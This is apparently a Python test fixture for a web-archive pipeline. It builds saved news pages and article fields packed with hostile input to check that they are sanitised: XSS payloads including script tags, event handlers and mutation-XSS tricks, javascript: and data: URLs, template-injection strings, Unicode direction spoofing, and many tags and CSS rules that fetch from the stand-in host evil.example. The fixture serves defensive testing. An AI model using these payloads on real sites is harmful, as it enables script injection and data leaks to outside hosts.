"""Pages and field values that try to run something or to fetch something from http://evil.example/."""

from __future__ import annotations

from typing import Any

from inspect_archive import FLOOD_TEXT, Saved

from pipelines.article import Credit, Evidence, Image, Rights

EVIL = "http://evil.example"
SCRIPT = f"document.title='PWNED';fetch('{EVIL}/fetch')"

VALUES = (
    f"<script>{SCRIPT}</script>",
    f'"><img src={EVIL}/img onerror="{SCRIPT}">',
    f"'-alert(1)-' <svg/onload={SCRIPT}>",
    f"</title></textarea></style><script>{SCRIPT}</script>",
    "{{ 7*7 }}{% raw %}${7*7}",
    "\u202egnp.exe\u202c \u200b\u2066hidden\u2069",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={EVIL}/mxss onerror={SCRIPT}&gt;">',
    "[a](javascript:alert(1)) ]]><!--",
)

BODIES = (
    f"<script>{SCRIPT}</script><script src={EVIL}/s.js></script>",
    f"<img src={EVIL}/i.png><img src=x onerror=\"{SCRIPT}\"><img srcset='{EVIL}/a 1x'><picture><source srcset={EVIL}/b><img></picture>",
    f"<svg onload=\"{SCRIPT}\"><image href='{EVIL}/svg'/><use href='{EVIL}/u#a'/><foreignObject><iframe src={EVIL}/fo></iframe></foreignObject></svg>",
    f"<iframe src={EVIL}/f></iframe><iframe srcdoc='<script>{SCRIPT}</script>'></iframe><object data={EVIL}/o></object><embed src={EVIL}/e>",
    f"<style>@import '{EVIL}/css';body{{background:url({EVIL}/bg)}}@font-face{{font-family:x;src:url({EVIL}/font)}}*{{font-family:x}}</style>",
    f'<p style="background:url({EVIL}/inline);position:fixed;inset:0">covering</p><table background={EVIL}/tb><tr><td>x</table>',
    f'<form action={EVIL}/form><input autofocus onfocus="{SCRIPT}"><button>go</button></form><details open ontoggle="{SCRIPT}">x</details>',
    f"<video src={EVIL}/v poster={EVIL}/p autoplay></video><audio src={EVIL}/a autoplay></audio><link rel=stylesheet href={EVIL}/l.css>",
    f"<link rel=preconnect href={EVIL}><link rel=dns-prefetch href={EVIL}><link rel=prefetch href={EVIL}/pf><link rel=preload as=image href={EVIL}/pl>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={EVIL}/m onerror={SCRIPT}&gt;"></table></mtext></math>',
    f'<noscript><p title="</noscript><img src={EVIL}/ns onerror={SCRIPT}>"></noscript><template><script>{SCRIPT}</script></template>',
    f'<marquee onstart="{SCRIPT}">x</marquee><body onload="{SCRIPT}"><isindex action=javascript:alert(1)><plaintext><script>{SCRIPT}</script>',
)
HEAD = (
    f"<base href='{EVIL}/'><meta http-equiv=refresh content='0;url={EVIL}/refresh'><meta http-equiv=Content-Security-Policy content=''>"
    f"<link rel=icon href={EVIL}/icon><link rel=manifest href={EVIL}/manifest>"
)


def fields(value: str) -> dict[str, Any]:
    """An article whose every field is hostile."""
    return {
        "status": "ok",
        "title": f"hostile {value}",
        "subtitle": value,
        "published_at": "2018-09-19T08:00:00+01:00",
        "source": value,
        "source_url": f"javascript:{SCRIPT}",
        "publisher": value,
        "section": value,
        "tags": [value],
        "language": f'en" onmouseover="{SCRIPT}',
        "credits": [Credit("author", value), Credit(value, "role")],
        "authors": [value],
        "image": f"javascript:{SCRIPT}",
        "images": [Image(f"javascript:{SCRIPT}", value, value), Image(f"data:text/html,<script>{SCRIPT}</script>")],
        "text": f"hostile words\n{value}\n" + "\n".join(FLOOD_TEXT),
        "notice": value,
        "rights": Rights(value, f"javascript:{SCRIPT}", value, 1, (value,)),
        "evidence": {"title": Evidence(value, value, value), value: Evidence(value, "body", value), "source": Evidence("x", "p", value)},
    }


def pages() -> list[Saved]:
    """One page for each body, its article made of hostile values, and a second version of the first."""
    found = []
    for place, body in enumerate(BODIES):
        text = "".join(f"<p>{line}</p>" for line in FLOOD_TEXT)
        html = f"<!doctype html><html><head><title>h</title>{HEAD}</head><body><article>{text}</article>{body}<a href='javascript:{SCRIPT}'>x</a></body></html>"
        value = VALUES[place % len(VALUES)]
        found.append(Saved(f"https://news.example.org/hostile{place}.html?a=<b>&c='\"", html, fields=fields(value)))
    return [*found, Saved(found[0].url, found[0].html + "x", hours=24, fields=fields(VALUES[1]))]
